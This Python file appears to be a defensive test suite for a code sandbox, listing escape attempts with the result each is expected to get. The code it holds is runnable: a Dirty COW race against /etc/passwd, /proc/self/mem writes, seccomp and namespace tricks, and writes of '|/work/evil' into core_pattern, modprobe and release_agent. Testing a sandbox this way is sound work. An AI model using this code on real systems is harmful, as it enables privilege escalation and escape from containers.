"""More of the kernel: newer calls, flags that hide behind allowed calls, and what a crash hands to the host."""

# ruff: noqa: E501 - code for the sandbox, inside strings

from escape.attack import KILLED, Attack

ATTACKS = [
    Attack(
        "watch-the-file-system",
        "fanotify and inotify: see what others open",
        "refused",
        "for name, number, arguments in (('fanotify_init', 300, (0, 0)), ('fanotify_mark', 301, (3, 1, 1, -100, b'/')), ('inotify_init', 253, ()), ('inotify_init1', 294, (0,)), ('inotify_add_watch', 254, (3, b'/work', 0xFFF))):\n    syscall(name, number, *arguments)\n",
        tried=5,
    ),
    Attack(
        "every-mix-of-namespaces",
        "clone with all 127 mixes of namespace flags, with thread flags as well; unshare with each",
        "EPERM for every one",
        """
from itertools import combinations
kinds = [0x10000000, 0x20000, 0x20000000, 0x40000000, 0x4000000, 0x8000000, 0x2000000]
made = 0
for size in range(1, 8):
    for mix in combinations(kinds, size):
        flags = sum(mix)
        for extra in (17, 0x100 | 17, 0x4000 | 0x100 | 17, 0x8000 | 17):
            child = libc.syscall(ctypes.c_long(56), ctypes.c_long(flags | extra), 0, 0, 0, 0)
            if child == 0:
                os._exit(0)
            if child > 0:
                report(f"clone {flags:#x} {extra:#x}", True)
            made += 1
        if libc.syscall(ctypes.c_long(272), ctypes.c_long(flags)) == 0:
            report(f"unshare {flags:#x}", True)
report("mixes", made != 508, made)
syscall("clone with a flag above 32 bits", 56, (1 << 33) | 0x10000000 | 17, 0, 0, 0, 0)
""",
        tried=2,
    ),
    Attack(
        "high-halves",
        "arguments whose upper 32 bits differ, which a filter of 32 bits would not see",
        "a filter of 64 bits, or the kernel drops them: no socket and no ioctl that is not allowed",
        """
for high in (1 << 32, 0xFFFFFFFF << 32):
    for family in (2, 10, 16, 17, 38, 40):
        syscall(f"socket {family}", 41, high | family, 1, 0)
    syscall("ioctl TIOCSTI", 16, 0, high | 0x5412, b"x")
    syscall("ioctl SIOCGIFCONF", 16, 1, high | 0x8912, ctypes.create_string_buffer(64))
    syscall("socketpair tipc", 53, high | 30, 1, 0, ctypes.create_string_buffer(8))
""",
        tried=18,
    ),
    Attack(
        "supervise-by-filter",
        "a seccomp filter that hands system calls to itself for an answer, and lets them go on",
        "refused, or a filter of its own that opens nothing",
        """
import struct
program = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FC00000))
fprog = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(program)))
syscall("listener", 317, 1, 8, fprog)
syscall("strict", 317, 0, 0, 0)
syscall("seccomp off by prctl", 157, 22, 0, 0)
""",
        tried=3,
    ),
    Attack(
        "process-settings",
        "prctl: drop no-new-privileges, secure bits, another place for its own memory map, capabilities",
        "refused",
        """
for name, arguments in {
    "no_new_privs off": (38, 0, 0, 0, 0), "secure bits": (28, 0x3F, 0, 0, 0), "memory map": (35, 1, 0x400000, 0, 0),
    "executable": (35, 13, 0, 0, 0), "bounding set": (24, 21, 0, 0, 0), "core scheduling": (62, 1, 1, 0, 0),
    "keep capabilities and use them": (47, 2, 12, 0, 0), "I/O flusher": (57, 1, 0, 0, 0), "machine check": (33, 1, 1, 0, 0)}.items():
    result = libc.prctl(*[ctypes.c_ulong(one) for one in arguments])
    report(name, result == 0 and name != "machine check", f"{result} {ctypes.get_errno()}")
report("still", b"NoNewPrivs:\\t1" not in read_file("/proc/self/status") and os.path.exists("/proc/sys/kernel/version") and b"NoNewPrivs" in read_file("/proc/self/status"))
""",
        tried=10,
    ),
    Attack(
        "whiteouts-and-odd-names",
        "make a device by renaming (RENAME_WHITEOUT), extended attributes, file capabilities, ownership",
        "refused",
        """
write_file("/work/.a")
syscall("whiteout", 316, -100, b"/work/.a", -100, b"/work/.b", 4)
syscall("file capability", 188, b"/work/.a", b"security.capability", bytes(20), 20, 0)
syscall("trusted attribute", 188, b"/work/.a", b"trusted.overlay.opaque", b"y", 1, 0)
attempt("chown", lambda: os.chown("/work/.a", 0, 0))
attempt("setgid folder of another", lambda: os.chmod("/", 0o7777))
""",
        tried=5,
    ),
    Attack(
        "write-by-proc-mem",
        "write into code of the interpreter and of its parent through /proc/*/mem, which passes by page protection",
        "its own memory and no other's; the image stays as it is",
        """
import mmap
path = os.path.realpath(sys.executable)
before = read_file(path, 1 << 26)
for line in read_file("/proc/self/maps", 1 << 20).decode().splitlines():
    if "r-xp" in line and line.rstrip().endswith(("python3.11", "libc.so.6")):
        start = int(line.split("-")[0], 16)
        with contextlib.suppress(OSError):
            fd = os.open("/proc/self/mem", os.O_RDWR)
            os.pwrite(fd, os.pread(fd, 16, start), start)
        break
report("image", read_file(path, 1 << 26) != before)
shared = open("/etc/passwd", "rb")
area = mmap.mmap(shared.fileno(), 0, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)
libc.mmap.restype = ctypes.c_void_p
address = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, shared.fileno(), ctypes.c_long(0))
def over():
    fd = os.open("/proc/self/mem", os.O_RDWR)
    os.pwrite(fd, b"owned", address)
attempt("a shared read-only page of /etc/passwd", over)
report("passwd", b"owned" in read_file("/etc/passwd"))
""",
        tried=3,
    ),
    Attack(
        "write-while-discarding",
        "race of writes to a private read-only page against madvise (CVE-2016-5195, Dirty COW)",
        "the file stays as it is",
        """
import threading
fd = os.open("/etc/passwd", os.O_RDONLY)
before = read_file("/etc/passwd")
libc.mmap.restype = ctypes.c_void_p
address = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
end = time.monotonic() + 2
def discard():
    while time.monotonic() < end:
        libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)
def write():
    mem = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < end:
        os.pwrite(mem, b"owned", address)
threads = [threading.Thread(target=one) for one in (discard, write)]
for one in threads: one.start()
for one in threads: one.join()
report("passwd", read_file("/etc/passwd") != before)
""",
    ),
    Attack(
        "crash-into-the-host",
        "dump core: where the host pipes dumps to a program, that program runs as the host's root",
        "a limit of one byte, which no dump passes and no pipe takes, and which cannot be changed",
        """
import resource, signal
report("limit", resource.getrlimit(resource.RLIMIT_CORE) != (1, 1), resource.getrlimit(resource.RLIMIT_CORE))
attempt("to 0, with which a pipe is used", lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0)))
attempt("to all", lambda: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)))
import struct
syscall("by another number", 302, 0, (1 << 32) | 4, struct.pack("QQ", 0, 0), 0)
child = os.fork()
if child == 0:
    os.kill(os.getpid(), signal.SIGSEGV)
    time.sleep(5)
status = os.waitpid(child, 0)[1]
report("core dumped", os.WCOREDUMP(status), status)
""",
        tried=5,
    ),
    Attack(
        "helpers-of-the-kernel",
        "paths of programs that the kernel starts as root: core_pattern, modprobe, hotplug, binfmt, request-key, poweroff",
        "read-only or not there",
        """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register",
             "/proc/sys/kernel/poweroff_cmd", "/proc/sys/kernel/usermodehelper/bset", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/rdma/release_agent", "/sys/class/thermal/thermal_zone0/trip_point_0_temp"):
    attempt(path, lambda: write_file(path, "|/work/evil"))
write_file("/work/.x", "\\x7fNOPE")
os.chmod("/work/.x", 0o755)
attempt("a format that wants a module", lambda: os.execv("/work/.x", ["x"]))
""",
        tried=11,
    ),
    Attack(
        "hide-in-links-of-proc",
        "reopen descriptors through /proc with more rights: the protocol's pipes, deleted and read-only files",
        "no more rights than before; only its own",
        """
attempt("hosts for writing", lambda: os.open(f"/proc/self/fd/{os.open('/etc/hosts', os.O_RDONLY)}", os.O_WRONLY))
attempt("folder for writing", lambda: write_file(f"/proc/self/fd/{os.open('/etc', os.O_RDONLY)}/evil"))
attempt("path descriptor", lambda: os.write(os.open("/etc/passwd", os.O_PATH), b"x"))
attempt("executable", lambda: os.open("/proc/self/map_files/" + os.listdir("/proc/self/map_files")[0], os.O_RDWR))
attempt("init's namespace", lambda: os.listdir("/proc/1/root/../../../proc/2/root"))
""",
        tried=5,
    ),
    Attack(
        "execute-otherwise",
        "run what it wrote by other ways: the loader, a script's first line, a library, memory of a file",
        "noexec holds for files and for mapping them",
        """
import mmap, shutil, subprocess, _ctypes
loader = [line.split()[-1] for line in read_file("/proc/self/maps", 1 << 20).decode().splitlines() if "/ld-" in line]
shutil.copy(os.path.realpath(sys.executable), "/work/.p")
os.chmod("/work/.p", 0o755)
if loader:
    attempt("by the loader", lambda: subprocess.run([loader[0], "/work/.p", "-c", "1"], check=True, capture_output=True))
write_file("/work/.s", f"#!{sys.executable}\\nprint(1)\\n")
os.chmod("/work/.s", 0o755)
attempt("a script by its first line", lambda: subprocess.run(["/work/.s"], check=True))
library = [line.split()[-1] for line in read_file("/proc/self/maps", 1 << 20).decode().splitlines() if line.rstrip().endswith("libc.so.6")][0]
shutil.copy(library, "/work/.l.so")
attempt("a library", lambda: ctypes.CDLL("/work/.l.so"))
fd = os.open("/work/.p", os.O_RDONLY)
attempt("mapped executable", lambda: mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_EXEC))
maps = subprocess.run([sys.executable, "-c", "print(open('/proc/self/maps').read())"], env={"LD_PRELOAD": "/work/.l.so", "LD_LIBRARY_PATH": "/work"}, capture_output=True, text=True).stdout
report("preloaded", any("/work/" in line and "x" in line.split()[1] for line in maps.splitlines()) or "/usr/" not in maps)
for name in (".p", ".s", ".l.so"):
    os.unlink(f"/work/{name}")
""",
        tried=4,
    ),
    Attack(
        "die-in-every-way",
        "crash the guest by each deadly signal in a child and then in itself",
        "the run says that it died; nothing is left",
        """
import signal
for number in (signal.SIGABRT, signal.SIGBUS, signal.SIGFPE, signal.SIGILL, signal.SIGSEGV, signal.SIGSYS, signal.SIGTRAP, signal.SIGXCPU):
    if os.fork() == 0:
        signal.signal(number, signal.SIG_DFL)
        os.kill(os.getpid(), number)
        os._exit(0)
    os.wait()
print("blocked children", flush=True)
os.abort()
""",
        ends=frozenset({"DIED"}),
        tried=0,
    ),
    Attack(
        "no-time-for-others",
        "calls in C that never let the interpreter go: a huge power, a regular expression, a sort by itself",
        "killed at the time limit, from outside",
        "import re\nre.match('(a+)+$', 'a' * 40 + 'b')\n10 ** 10 ** 9\n",
        ends=KILLED,
        tried=0,
        limits={"wall_seconds": 3.0},
    ),
]
